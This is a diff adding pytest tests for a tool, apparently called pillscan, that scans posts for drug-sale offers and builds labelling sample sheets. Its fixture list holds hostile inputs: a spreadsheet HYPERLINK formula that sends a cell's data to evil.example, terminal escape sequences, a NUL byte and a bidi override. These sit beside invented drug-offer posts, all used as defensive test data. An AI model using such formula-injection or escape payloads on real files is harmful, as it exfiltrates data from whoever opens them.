@@ -100,3 +100,106 @@ def read_labels_texts(sheet: Path) -> list[str]:
     filled = pd.read_csv(sheet, dtype=str, keep_default_na=False).assign(label="offer")
     filled.to_csv(sheet, index=False)
     return list(read_labels(sheet).frame["text"])
+
+
+# --- pillscan scan --label-sample N --------------------------------------------------------------------------
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"oxy 30s blues, snap me")',
+    "+1 555 0100 xanax bars 2mg in stock, telegram @plug",
+    "percs m30\r\nready, 1 for 30\rcashapp",  # CR, CRLF inside a post
+    "bars \x00 nul and \x1b[31mescape\x1b[0m, dm me",
+    "\u202eevil bidi\u202c adderall 30mg ships",
+    '"quoted", with, commas, and ""doubled"" quotes, xanax',
+    "  ",  # blank: skipped by the scan, never chosen
+]
+
+
+def _posts(tmp_path: Path, n: int = 80) -> Path:
+    from conftest import TEXTS
+
+    path = tmp_path / "in.jsonl"
+    rows = [{"id": f"h{i}", "text": t} for i, t in enumerate(HOSTILE)]
+    tag = ["".join("abcdefghij"[int(d)] for d in str(i)) for i in range(n)]  # distinct once digits are folded
+    rows += [{"id": f"p{i}", "text": f"{TEXTS[i % len(TEXTS)]} #{tag[i]}"} for i in range(n)]
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
+def test_scan_label_sample_is_the_sample_command_s_sheet_and_reads_back(tmp_path: Path, fmt: str) -> None:
+    posts = _posts(tmp_path)
+    out = tmp_path / f"out.{fmt}"
+    assert main(["-q", "scan", str(posts), "-o", str(out), "--label-sample", "30", "--workers", "1"]) == 0
+    sheet = tmp_path / "out.to-label.csv"  # the default: beside the output
+    assert main(["-q", "sample", str(out), "-n", "30", "-o", str(tmp_path / "s.csv")]) == 0
+    assert sheet.read_bytes() == (tmp_path / "s.csv").read_bytes()  # one picker, one sheet format
+    filled = pd.read_csv(sheet, dtype=str, keep_default_na=False)
+    assert len(filled) == 30 and filled["text"].is_unique and (filled["label"] == "").all()
+    filled["label"] = ["offer" if i % 2 else "not_offer" for i in range(len(filled))]
+    filled.to_csv(sheet, index=False)
+    texts = set(read_labels(sheet).frame["text"])
+    hostile = [t for t in HOSTILE if t.strip()]
+    # Every hostile post chosen reads back exactly as posted (formulas unmarked, CRs and controls intact).
+    assert texts & set(hostile) and all(t in hostile or t.split(" #")[0] in _texts() for t in texts)
+
+
+def _texts() -> set[str]:
+    from conftest import TEXTS
+
+    return set(TEXTS)
+
+
+def test_scan_label_sample_out_and_refusals(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
+    posts = _posts(tmp_path, 10)
+    out, sheet = tmp_path / "o.jsonl", tmp_path / "mine.csv"
+    args = ["-q", "scan", str(posts), "-o", str(out), "--label-sample", "5", "--label-sample-out", str(sheet)]
+    assert main(args) == 0
+    assert len(pd.read_csv(sheet)) == 5 and not (tmp_path / "o.to-label.csv").exists()
+    cases = [
+        (["-o", "-", "--label-sample", "5"], "not -o -"),
+        (["-o", str(out), "--label-sample", "5", "--no-text"], "drop --no-text"),
+        (["-o", str(out), "--label-sample-out", str(sheet)], "needs --label-sample N"),
+        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(posts)], "input"),
+        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(tmp_path / "no" / "s")], "does not exist"),
+        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(out)], "o.jsonl"),
+    ]
+    for args, message in cases:
+        before = posts.read_bytes()
+        code = main(["-q", "scan", str(posts), *args])
+        err = capsys.readouterr().err
+        assert code != 0 and message in err and "Traceback" not in err, (args, err)
+        assert len(err.strip().splitlines()) <= 2, err
+        assert posts.read_bytes() == before
+    assert main(["-q", "scan", str(posts), "-o", str(out), "--label-sample", "0"]) == 2  # click: at least 1
+
+
+def test_choosing_from_a_stream_keeps_bounded_candidates_and_the_same_choice_when_small() -> None:
+    from pillscan.sample import CANDIDATES_PER_POST, choose_from_rows
+
+    rows = _frame(300).assign(decision="clean").to_dict(orient="records")
+    small, seen = choose_from_rows(iter(rows), 20, 0.4, seed=3)
+    assert seen == 300
+    whole = choose_for_labelling(pd.DataFrame(rows), 20, 0.4, seed=3)
+    assert list(small["text"]) == list(whole["text"]) and list(small["why"]) == list(whole["why"])
+    # A long stream: only the closest candidates on each side and a reservoir per band are kept.
+    kept: list[int] = []
+    import pillscan.sample as sample_module
+
+    real = sample_module.choose_for_labelling
+
+    def spy(frame: pd.DataFrame, *args: object, **kwargs: object) -> pd.DataFrame:
+        kept.append(len(frame))
+        return real(frame, *args, **kwargs)  # type: ignore[arg-type]
+
+    big = _frame(30_000, seed=1).assign(decision="clean").to_dict(orient="records")
+    try:
+        sample_module.choose_for_labelling = spy  # type: ignore[assignment]
+        chosen, seen = choose_from_rows(iter(big), 10, 0.4, seed=3)
+    finally:
+        sample_module.choose_for_labelling = real  # type: ignore[assignment]
+    keep = max(CANDIDATES_PER_POST * 10, 1000)
+    assert seen == 30_000 and len(chosen) == 10 and kept[0] <= 2 * keep + 10 * 10
+    near = chosen[chosen["why"].str.startswith("near")]
+    assert (np.abs(near["score"] - 0.4) < 0.05).all()  # the closest of the whole stream, not of a prefix
